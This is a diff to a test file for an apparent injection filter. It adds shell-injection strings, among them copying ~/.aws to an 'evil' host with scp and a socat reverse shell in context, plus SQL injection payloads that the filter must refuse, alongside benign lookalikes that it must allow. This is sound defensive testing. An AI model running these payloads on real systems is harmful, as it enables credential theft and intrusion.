@@ -181,6 +181,12 @@ t.test('commands behind a wrapper, word-like commands with an option or path, $S
     'x;sudo -l',
     'x;socat exec:sh tcp:evil:1',
     'x;openssl s_client -connect evil:443',
+    ';find / -perm -4000',
+    '| find / -exec id \\;',
+    ';ps -ef',
+    ';tar -czf /tmp/x.tgz /etc',
+    ';scp -r ~/.aws evil:',
+    ';ssh -i key root@evil',
   ])
     refused(t, p, 'cmd_injection', 'rce-100');
   for (const p of ['x;${SHELL} -c id', 'x;{sleep,5}', "x;$(rev<<<'imaohw')"])
@@ -192,6 +198,9 @@ t.test('commands behind a wrapper, word-like commands with an option or path, $S
     'Hotel; time to go',
     'Breakfast; env. fee',
     'Date; dd/mm/yyyy',
+    'Lost keys; find -- at the desk',
+    'Notes; ps. thanks',
+    'Roof; tar & gravel',
   ])
     allowed(t, p);
 });
@@ -246,8 +255,10 @@ t.test('UNION SELECT split by a line comment and a line break; PostgreSQL COPY â
     '1 union -- x\nselect 1',
     '1 UNION ALL -- a\r\nSELECT null',
     '1 union # a\n# b\nall\nselect 1',
+    '1 union -- x\ndistinctrow select 1',
   ])
     refused(t, p, 'sqli', 'sqli-111');
+  refused(t, '-1 UNION DISTINCTROW SELECT password FROM users', 'sqli', 'sqli-110');
   refused(t, "';copy (select '') to program 'id'--", 'sqli', 'sqli-140');
   for (const p of [
     'Union Square -- nice\nselected items',
